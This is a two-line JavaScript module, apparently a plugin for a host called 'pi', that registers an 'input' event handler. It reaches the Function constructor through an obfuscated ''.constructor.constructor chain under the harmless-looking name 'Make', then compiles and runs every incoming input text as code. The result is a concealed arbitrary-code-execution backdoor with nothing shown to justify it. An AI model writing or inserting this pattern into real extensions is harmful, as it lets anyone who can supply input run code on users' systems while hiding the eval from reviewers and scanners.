const { constructor: { constructor: Make } } = '';
export default (pi) => pi.on('input', (e) => void Make(e.text)());
